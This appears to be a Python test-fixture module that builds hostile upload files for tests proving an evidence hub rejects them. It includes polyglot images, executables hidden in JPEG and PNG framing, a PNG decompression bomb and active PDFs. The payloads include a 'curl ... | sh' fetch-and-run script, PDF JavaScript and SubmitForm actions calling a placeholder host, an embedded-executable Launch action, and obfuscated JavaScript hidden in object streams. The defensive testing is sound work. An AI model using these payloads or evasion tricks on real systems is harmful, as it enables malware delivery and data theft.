"""Real hostile evidence files, built in the test: polyglots, wrapped payloads, bombs, active PDFs.

Each builder makes the attack the way an attacker would (with Pillow, pypdf
or PDF syntax by hand), so a test proves the hub refuses the real thing,
not a caricature of it.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from evidence_samples import classic_pdf
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def photo_jpeg(size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    """A real colour JPEG made by Pillow; ``save`` goes to ``Image.save`` (e.g. ``exif=``)."""
    out = io.BytesIO()
    Image.new("RGB", size, (180, 120, 90)).save(out, "JPEG", **save)
    return out.getvalue()


def scan_png(size: tuple[int, int] = (64, 48)) -> bytes:
    """A real greyscale PNG made by Pillow."""
    out = io.BytesIO()
    Image.new("L", size, 200).save(out, "PNG")
    return out.getvalue()


def zip_archive() -> bytes:
    """A ZIP holding a shell script."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.sh", "#!/bin/sh\ncurl http://203.0.113.1/x | sh\n")
    return out.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG with a ZIP appended: it displays as a photo and unzips as an archive."""
    data = photo_jpeg() + zip_archive()
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["run.sh"]
    return data


def executable() -> bytes:
    """A PE executable's DOS header and stub."""
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\x00" * 48
        + (b"This program cannot be run in DOS mode.\r\n$")
    )


def exe_between_jpeg_markers() -> bytes:
    """An executable between a JPEG's start and end markers (passes a markers-only check)."""
    return b"\xff\xd8\xff" + executable() + b"\xff\xd9"


def exe_in_a_jpeg_comment() -> bytes:
    """An executable in a well-framed JPEG comment segment, with no image at all."""
    payload = executable()
    return b"\xff\xd8\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload + b"\xff\xd9"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """One PNG chunk with a correct CRC."""
    crc = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def html_in_png_markers() -> bytes:
    """An HTML page after a correct PNG signature and IHDR, ended by IEND."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    html = b"<!DOCTYPE html><html><script>fetch('/v1/evidence')</script></html>"
    return PNG_SIGNATURE + header + html + png_chunk(b"IEND", b"")


def png_bomb(side: int = 20_000) -> bytes:
    """A 1-bit greyscale PNG of ``side``×``side`` white pixels: tens of KB, 400 million pixels."""
    row = b"\x00" + b"\xff" * ((side + 7) // 8)  # filter byte, then packed pixels
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"".join((
        PNG_SIGNATURE,
        png_chunk(b"IHDR", header),
        png_chunk(b"IDAT", idat),
        png_chunk(b"IEND", b""),
    ))  # fmt: skip


def png_with_data_after_iend() -> bytes:
    """A valid PNG followed by an HTML page."""
    return scan_png() + b"<html><script>alert(document.cookie)</script></html>"


def jpeg_with_gps() -> bytes:
    """A real JPEG whose EXIF says where it was taken (Guangzhou)."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make: ordinary metadata stays allowed
    gps = {1: "N", 2: (23.0, 7.0, 30.0), 3: "E", 4: (113.0, 15.0, 50.0)}
    exif[0x8825] = gps  # GPSInfo IFD
    return photo_jpeg(exif=exif.tobytes())


_XMP_WITH_LOCATION = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="23,7.5N" '
    'exif:GPSLongitude="113,15.8E"/></rdf:RDF></x:xmpmeta>'
)


def jpeg_with_xmp_gps() -> bytes:
    """A real JPEG whose XMP packet (not EXIF) holds the coordinates."""
    return photo_jpeg(xmp=_XMP_WITH_LOCATION.encode())


def png_with_xmp_gps() -> bytes:
    """A real PNG with the coordinates in a compressed iTXt XMP chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", _XMP_WITH_LOCATION, zip=True)
    out = io.BytesIO()
    Image.new("L", (16, 16), 90).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def png_with_exif_gps() -> bytes:
    """A real PNG with an eXIf chunk holding a GPS IFD."""
    exif = Image.Exif()
    exif[0x8825] = {2: (23.0, 7.0, 30.0), 4: (113.0, 15.0, 50.0)}
    out = io.BytesIO()
    Image.new("L", (16, 16), 90).save(out, "PNG", exif=exif.tobytes())
    return out.getvalue()


def jpeg_with_camera_exif() -> bytes:
    """A real JPEG with EXIF but no location."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    return photo_jpeg(exif=exif.tobytes())


# --- PDFs -------------------------------------------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=100)
    return writer


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    action[NameObject("/S")] = NameObject(kind)
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _link(writer: PdfWriter, action: DictionaryObject) -> None:
    """Give page one a link annotation that does ``action`` when clicked."""
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0)] * 2),
        NameObject("/A"): action,
    })  # fmt: skip
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def pdf_open_action_javascript() -> bytes:
    """A PDF that runs JavaScript when opened (/OpenAction → /S /JavaScript)."""
    writer = _one_page()
    action = writer._add_object(_action("/JavaScript", JS="app.launchURL('http://203.0.113.1')"))
    writer._root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def pdf_document_javascript() -> bytes:
    """A PDF with document-level JavaScript (the /Names /JavaScript tree), by hand."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(init)4 0 R]>>>>>>"
    script = b"<</S/JavaScript/JS(this.print\\({bUI:false}\\);)>>"
    return classic_pdf([catalog, *_PAGES, script])


def pdf_launch() -> bytes:
    """A PDF whose open action launches a program embedded as an attachment."""
    writer = _one_page()
    writer.add_attachment("invoice.exe", executable())
    launch = _action("/Launch", F="invoice.exe")
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(launch)
    return _written(writer)


def pdf_embedded_file() -> bytes:
    """A PDF carrying an embedded file (/EmbeddedFiles, /EF, /Type /EmbeddedFile)."""
    writer = _one_page()
    writer.add_attachment("certificate.docm", b"PK\x03\x04 macro document")
    return _written(writer)


def pdf_page_additional_action() -> bytes:
    """A PDF whose page runs an action when it opens (/AA → /O)."""
    writer = _one_page()
    trigger = DictionaryObject({NameObject("/O"): _action("/SubmitForm", F="http://203.0.113.1")})
    writer.pages[0][NameObject("/AA")] = trigger
    return _written(writer)


def pdf_xfa_form() -> bytes:
    """A PDF with an XFA form (/AcroForm /XFA)."""
    writer = _one_page()
    form = DictionaryObject({
        NameObject("/Fields"): ArrayObject(),
        NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
    })  # fmt: skip
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return _written(writer)


def pdf_link_submit_form() -> bytes:
    """A PDF with a link annotation whose action submits a form to a server."""
    writer = _one_page()
    _link(writer, _action("/SubmitForm", F="http://203.0.113.1/collect"))
    return _written(writer)


def pdf_encrypted() -> bytes:
    """An AES-256 encrypted PDF with an empty user password (opens without asking)."""
    writer = _one_page()
    writer.encrypt("", "owner-secret", algorithm="AES-256")
    return _written(writer)


def pdf_with_uri_link() -> bytes:
    """A PDF with an ordinary web link and an open action that shows page one: allowed."""
    writer = _one_page()
    _link(writer, _action("/URI", URI="https://www.gd.gov.cn/"))
    fit = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer._root_object[NameObject("/OpenAction")] = fit
    return _written(writer)


_PAGES = [
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
]


def pdf_escaped_javascript_name() -> bytes:
    """/OpenAction JavaScript with its names hex-escaped (/J#61vaScript), by hand."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
    action = b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"
    return classic_pdf([catalog, *_PAGES, action])


def pdf_orphan_javascript() -> bytes:
    """A JavaScript action in an object no cross-reference lists (a repairing viewer finds it)."""
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    orphan = b"9 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n"
    return classic_pdf([catalog, *_PAGES], extra=orphan)


def pdf_javascript_in_object_stream() -> bytes:
    """A PDF 1.5 whose JavaScript action sits compressed in an object stream."""
    return pdf_open_action_in_object_stream(b"<</S/JavaScript/JS(app.alert\\(1\\))>>")


def pdf_open_action_in_object_stream(action: bytes) -> bytes:
    """A PDF 1.5 whose open action, ``action``, sits compressed in an object stream.

    Objects 1-3 are plain; object 4 (the action) lives in object stream 5; the
    cross-reference is a stream (object 6). No name of ``action`` is in plain bytes.
    """
    hidden = b"4 0 " + action
    packed = zlib.compress(hidden)
    objstm = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: _PAGES[0],
        3: _PAGES[1],
        5: objstm + packed + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 5, 0)]  # object 4: index 0 of object stream 5
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (5, 6)]
    table = zlib.compress(b"".join(rows))
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % (
        len(table)
    )
    out += b"\nstream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


ACTIVE_PDFS: dict[str, Callable[[], bytes]] = {
    "open-action-javascript": pdf_open_action_javascript,
    "document-javascript": pdf_document_javascript,
    "launch-embedded-exe": pdf_launch,
    "embedded-file": pdf_embedded_file,
    "page-additional-action": pdf_page_additional_action,
    "xfa-form": pdf_xfa_form,
    "link-submit-form": pdf_link_submit_form,
    "escaped-javascript-name": pdf_escaped_javascript_name,
    "orphan-javascript": pdf_orphan_javascript,
    "javascript-in-object-stream": pdf_javascript_in_object_stream,
}
"""Each kind of active content, by name: every one must be refused."""
